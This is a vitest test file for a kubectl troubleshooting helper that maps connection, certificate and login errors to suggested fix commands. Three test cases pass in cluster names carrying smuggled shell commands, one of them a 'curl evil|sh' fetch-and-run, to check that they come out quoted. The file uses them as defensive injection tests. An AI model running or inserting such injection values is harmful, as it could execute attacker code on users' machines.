import { describe, expect, it } from 'vitest'
import { loginTrouble, reachTrouble } from './laptop-trouble'

// What kubectl 1.32 says, by its proxy and by create token.
const EXEC = 'getting credentials: exec: executable'
const REFUSED = 'dial tcp 127.0.0.1:6443: connect: connection refused'
const X509 = 'tls: failed to verify certificate: x509: certificate'

describe('reachTrouble', () => {
  it.each([
    [
      'a plugin of Google that is not installed',
      `${EXEC} gke-gcloud-auth-plugin not found\n\nIt looks`,
      'a',
      /gke-gcloud-auth-plugin, which is not on your PATH\.\nInstall it: gcloud components install gke-gcloud-auth-plugin$/,
    ],
    [
      'a plugin by its path',
      `${EXEC} /opt/bin/doctl not found`,
      'a',
      /Install it: see https:\/\/docs\.digitalocean/,
    ],
    [
      'a name that two plugins have',
      `${EXEC} kubelogin not found`,
      'a',
      /Install it: az aks install-cli \(for Azure\), or see https:\S+ \(for another identity provider\)$/,
    ],
    ['a plugin of a company', `${EXEC} acme-login not found`, 'a', /Install acme-login, or use a kubeconfig/],
    [
      'an expired login to AWS',
      `${EXEC} aws failed with exit code 255`,
      'a',
      /\(exit code 255\): most often its login has expired\.\nLog in again: aws sso login$/,
    ],
    [
      'another plugin that fails',
      `${EXEC} acme-login failed with exit code 1`,
      'a',
      /\nTry it by hand: kubectl --context x get --raw \/version$/,
    ],
    [
      'a cluster that was recreated',
      `${X509} signed by unknown authority`,
      'kind-dev',
      /\nFetch the kubeconfig again: kind export kubeconfig --name dev$/,
    ],
    [
      'a CA that did not sign it',
      `${X509} signed by unknown authority`,
      'prod',
      /\nFetch the kubeconfig again from where/,
    ],
    [
      'a certificate that is over',
      `${X509} has expired or is not yet valid: current time 2026-11-29T10:00:00Z is after 2026-11-01T00:00:00Z`,
      'prod',
      /is after 2026-11-01.*\nCheck the clock/,
    ],
    [
      'minikube that is stopped',
      REFUSED,
      'minikube',
      /connection refused\nStart the cluster: minikube start$/,
    ],
    [
      'minikube that is stopped, on Windows',
      'dial tcp 127.0.0.1:6443: connectex: No connection could be made because the target machine actively refused it.',
      'minikube',
      /actively refused it\.\nStart the cluster: minikube start$/,
    ],
    [
      'a network that Windows does not reach',
      'dial tcp 10.0.0.1:6443: connectex: A socket operation was attempted to an unreachable network.',
      'prod',
      /cannot be reached: .*\nConnect to its network \(VPN\)/,
    ],
    ['kind that is stopped', REFUSED, 'kind-dev', /\nStart the cluster: docker start dev-control-plane$/],
    [
      'a kind cluster whose name is a command',
      REFUSED,
      'kind-x; curl evil|sh #',
      /\nStart the cluster: docker start 'x; curl evil\|sh #-control-plane'$/,
    ],
    [
      'a k3d cluster whose name is a command',
      REFUSED,
      'k3d-$(id)',
      /\nStart the cluster: k3d cluster start '\$\(id\)'$/,
    ],
    [
      'a recreated kind cluster whose name is a command',
      `${X509} signed by unknown authority`,
      'kind-`id`',
      /: kind export kubeconfig --name '`id`'$/,
    ],
    [
      'a network that cannot be reached',
      'dial tcp: lookup api.example.com on 10.0.0.2:53: no such host',
      'prod',
      /\nConnect to its network \(VPN\).*kubectl config get-contexts$/,
    ],
  ])('knows %s', (_, said, contextName, says) => {
    expect(reachTrouble(said, { contextName, context: 'x' })?.message).toMatch(says)
  })

  it('makes no guess about anything else', () => {
    expect(reachTrouble('the server is busy', { contextName: 'minikube' })).toBeUndefined()
  })
})

describe('loginTrouble', () => {
  const now = new Date('2026-11-29T00:00:00Z')
  it.each([
    [
      'a certificate that expired',
      { certificateUntil: new Date('2026-11-01T00:00:00Z') },
      /expired on 2026-11-01.*\n.*sudo kubeadm certs renew admin\.conf$/,
    ],
    [
      'a certificate that is valid',
      { certificateUntil: new Date('2027-01-01T00:00:00Z') },
      /\(401\)\.\nLog in again, until this answers: kubectl auth whoami$/,
    ],
    [
      'a login by gcloud',
      { plugin: '/usr/bin/gke-gcloud-auth-plugin' },
      /from gke-gcloud-auth-plugin\.\nLog in again: gcloud auth login$/,
    ],
    ['a login that is not known', {}, /\nLog in again, until this answers: kubectl auth whoami$/],
  ])('names what settles %s', (_, login, says) => {
    expect(loginTrouble(login, now, {}).message).toMatch(says)
  })
})
